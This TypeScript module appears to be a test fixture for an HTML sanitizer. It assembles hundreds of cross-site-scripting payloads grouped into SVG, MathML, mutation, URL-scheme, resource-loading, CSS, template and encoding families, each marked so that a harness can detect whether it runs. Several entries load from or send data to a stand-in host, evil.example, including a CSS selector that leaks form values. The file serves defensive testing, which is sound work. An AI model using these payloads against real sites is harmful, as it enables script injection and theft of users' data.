import { writable } from '#server/text/writable-text.ts'
import { escapes, handlers, scripts } from './hostile-scripts.ts'
import { foreignHost } from './foreign-host.ts'

/**
 * Hostile markup. Each text calls `ran` with its number, or contacts a foreign host. The families are known ways to
 * make browsers run a stranger's script; `RUN` stands for the call.
 */
const drawings = [
  '<script>RUN</script>',
  '<script href=data:,RUN />',
  `<script xlink:href=${foreignHost}/x.js />`,
  '<animate onbegin=RUN attributeName=x dur=1s>',
  '<set onbegin=RUN attributename=x>',
  '<animatetransform onbegin=RUN attributeName=transform>',
  '<a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>a</text></a>',
  '<a xlink:href=javascript:RUN><text x=9 y=9>a</text></a>',
  '<use href="data:image/svg+xml,<svg id=x onload=RUN>#x">',
  `<use href=${foreignHost}/x.svg#x>`,
  `<image href=${foreignHost}/x.png>`,
  '<image href=x onerror=RUN>',
  `<feImage href=${foreignHost}/x.png>`,
  '<foreignObject><img src=x onerror=RUN></foreignObject>',
  '<foreignObject><iframe srcdoc="<script>parent.RUN</script>">',
  '<style><img src=x onerror=RUN></style>',
  '<style>@import"//evil.example/x.css"</style>',
  '<title><img src=x onerror=RUN></title>',
  '<desc><img src=x onerror=RUN></desc>',
  '<discard onbegin=RUN>',
  '<handler xmlns:ev=x ev:event=load>RUN</handler>',
  '<path fill="url(//evil.example/x)">',
  '<p><style><a id="</style><img src=x onerror=RUN>">',
  '</p><style><a title="</style><img src onerror=RUN>">',
].map((inside) => `<svg>${inside}</svg>`)

const formulas = [
  '<mtext><img src=x onerror=RUN></mtext>',
  '<mi><svg onload=RUN></mi>',
  '<mtext><table><mglyph><style><img src=x onerror=RUN></style>',
  '<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml>',
  '<annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style>',
  '<maction actiontype=statusline xlink:href=javascript:RUN>a</maction>',
  '<mrow href=javascript:RUN>a</mrow>',
  '<mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=RUN>">',
  '<mi><b><mglyph><style><img src=x onerror=RUN>',
  '<semantics><script>RUN</script></semantics>',
  '<mtext><p><style></math><img src=x onerror=RUN>',
].map((inside) => `<math>${inside}</math>`)

/** Markup whose meaning changes when it is parsed, serialized and parsed again. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<noembed><p title="</noembed><img src=x onerror=RUN>">',
  '<noframes><p title="</noframes><img src=x onerror=RUN>">',
  '<iframe><p title="</iframe><img src=x onerror=RUN>">',
  '<textarea><p title="</textarea><img src=x onerror=RUN>">',
  '<title><p title="</title><img src=x onerror=RUN>">',
  '<style><p title="</style><img src=x onerror=RUN>">',
  '<plaintext><img src=x onerror=RUN>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<table><form><svg><style><img src=x onerror=RUN></style></svg></form></table>',
  '<a href="x"><table><a href="javascript:RUN">b</table>',
  '<p id="</p><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<!---><img src=x onerror=RUN>',
  '<!--!><img src=x onerror=RUN>--!>',
  '<!x><img src=x onerror=RUN>',
  '<?x ><img src=x onerror=RUN>',
  '</ x><img src=x onerror=RUN>',
  '</x title="><img src=x onerror=RUN>">',
  '<img alt="``onerror=RUN" src=x>',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<select><style></select><img src=x onerror=RUN></style>',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<b <script>RUN</script>0',
  '<div <img src=x onerror=RUN>',
  '<a\n<img src=x onerror=RUN>',
  `<img src="x` + '`' + `><img src=x onerror=RUN>">`,
]

const schemes = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java\rscript:RUN',
  'javascript\t:RUN',
  '&#106;avascript:RUN',
  '&#x6a;avascript:RUN',
  '&#0000106avascript:RUN',
  'jav&#x09;ascript:RUN',
  'jav&Tab;ascript:RUN',
  'jav&NewLine;ascript:RUN',
  'javascript&colon;RUN',
  'javascript&#58;RUN',
  'javascript://%0aRUN',
  'javascript://park.example/%0aRUN',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'vbscript:RUN',
  'livescript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=RUN>',
  'DATA:text/html,RUN',
  'blob:http://evil.example/x',
  'filesystem:http://evil.example/x',
  'file:///etc/passwd',
  'jar:http://evil.example!/x',
  'mhtml:http://evil.example',
  'about:srcdoc',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  foreignHost,
].map((address) => `<a href="${address}">b</a>`)

const loading = [
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src=javascript:parent.RUN></iframe>',
  `<iframe src=${foreignHost}></iframe>`,
  '<object data=javascript:RUN></object>',
  `<object data=${foreignHost}/x.swf></object>`,
  `<embed src=${foreignHost}/x>`,
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=refresh content="0;javascript:RUN">',
  `<link rel=prefetch href=${foreignHost}/x>`,
  `<link rel=preload as=script href=${foreignHost}/x.js>`,
  `<img src=${foreignHost}/x.png>`,
  `<img srcset="${foreignHost}/x.png 2x">`,
  `<picture><source srcset=${foreignHost}/x.png><img src=x></picture>`,
  `<video poster=${foreignHost}/x.png>`,
  `<audio src=${foreignHost}/x.mp3 autoplay>`,
  '<form action=javascript:RUN><input type=submit></form>',
  `<form action=${foreignHost}><button>b</button></form>`,
  '<button formaction=javascript:RUN>b</button>',
  '<input type=submit formaction=javascript:RUN>',
  '<isindex action=javascript:RUN type=image>',
  `<body background=${foreignHost}/x.png>`,
  `<table background=${foreignHost}/x.png><td>b`,
  `<input type=image src=${foreignHost}/x.png>`,
  `<a ping=${foreignHost}/x href=#>b</a>`,
  '<portal src=javascript:RUN>',
  '<applet code=javascript:RUN>',
  `<html manifest=${foreignHost}/x>`,
]

const styles = [
  '<p style="background:url(//evil.example/x.png)">b',
  '<p style="background-image:image-set(\'//evil.example/x.png\' 1x)">b',
  '<p style="width:expression(RUN)">b',
  '<p style="behavior:url(//evil.example/x.htc)">b',
  '<p style="-moz-binding:url(//evil.example/x)">b',
  '<p style="x:\\65xpression(RUN)">b',
  '<p style="position:fixed;inset:0;z-index:9">b',
  '<style>*{background:url(//evil.example/x.png)}</style>',
  '<style>@import url(//evil.example/x.css);</style>',
  "<style>@font-face{font-family:x;src:url('//evil.example/x')}*{font-family:x}</style>",
  '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
  `<link rel=stylesheet href=${foreignHost}/x.css>`,
  '<style><!--</style><img src=x onerror=RUN>//--></style>',
]

/** For template engines, and for texts written into something that is parsed again. */
const templates = [
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%RUN%}',
  '[[RUN]]',
  '{{{RUN}}}',
  '@{RUN}',
  '*{RUN}',
  'x="{RUN}"',
  '{"__html":"<img src=x onerror=RUN>"}',
  '$&<img src=x onerror=RUN>',
  "$'<img src=x onerror=RUN>",
  '$`<img src=x onerror=RUN>',
  '$1<img src=x onerror=RUN>',
]

const encodings = [
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '&#x3c;img src=x onerror=RUN&#x3e;',
  '&LT;img src=x onerror=RUN&GT;',
  '&lt<img src=x onerror=RUN>',
  '%3Cimg src=x onerror=RUN%3E',
  '%253Cimg src=x onerror=RUN%253E',
  '+ADw-img src=x onerror=RUN+AD4-',
  '\uff1cimg src=x onerror=RUN\uff1e',
  '\ufe64img src=x onerror=RUN\ufe65',
  '\u00bcimg src=x onerror=RUN\u00be',
  '\ufeff<img src=x onerror=RUN>',
  '<\u200bimg src=x onerror=RUN>',
  '<img\u3000src=x onerror=RUN>',
  '<img src=x onerror\u00a0=RUN>',
  '\u202e<img src=x onerror=RUN>',
  '<img src=x\u0000 onerror=RUN>',
  '<img src=x on\u0000error=RUN>',
  '<\u0130mg src=x onerror=RUN>',
  '\ud83d<img src=x onerror=RUN>',
  '<img src=x onerror=&#82;UN>',
  '<img src=x onerror="&#x52;UN">',
]

const families = {
  handlers,
  scripts,
  escapes,
  drawings,
  formulas,
  mutations,
  schemes,
  loading,
  styles,
  templates,
  encodings,
}

/** The call of a text, by its number, as it is found again on a page. */
const call = (number: number) => `ran(${number})`

export const hostile: readonly string[] = Object.values(families)
  .flat()
  .map(writable)
  .map((text, number) =>
    text.includes('RUN') ? text.replaceAll('RUN', call(number)) : `${text}<!--${call(number)}-->`,
  )

/** All of them as single lines of a form. */
export const hostileLines: readonly string[] = hostile.map((text) => text.replaceAll(/\p{Cc}/gu, ' ').trim())

/** Closes whatever a preceding text has left open, so that the next one is parsed as intended. */
const closers = `"'><!-- --></title></textarea></style></script></xmp></noscript></noembed></noframes></iframe></template></select></svg></math></table>`

/** Sorts those that end all markup last. */
const endless = (text: string) => Number(text.includes('<plaintext'))

/** All of them in formatted texts of this maximum length, with a separate word at each. */
export function hostileTexts(max: number): string[] {
  const texts = ['']
  for (const text of [...hostile].sort((one, other) => endless(one) - endless(other))) {
    const part = `<p>text-${hostile.indexOf(text)}</p>${text}${closers}\n`
    if (texts.at(-1)!.length + part.length > max) texts.push('')
    texts[texts.length - 1] += part
  }
  return texts
}
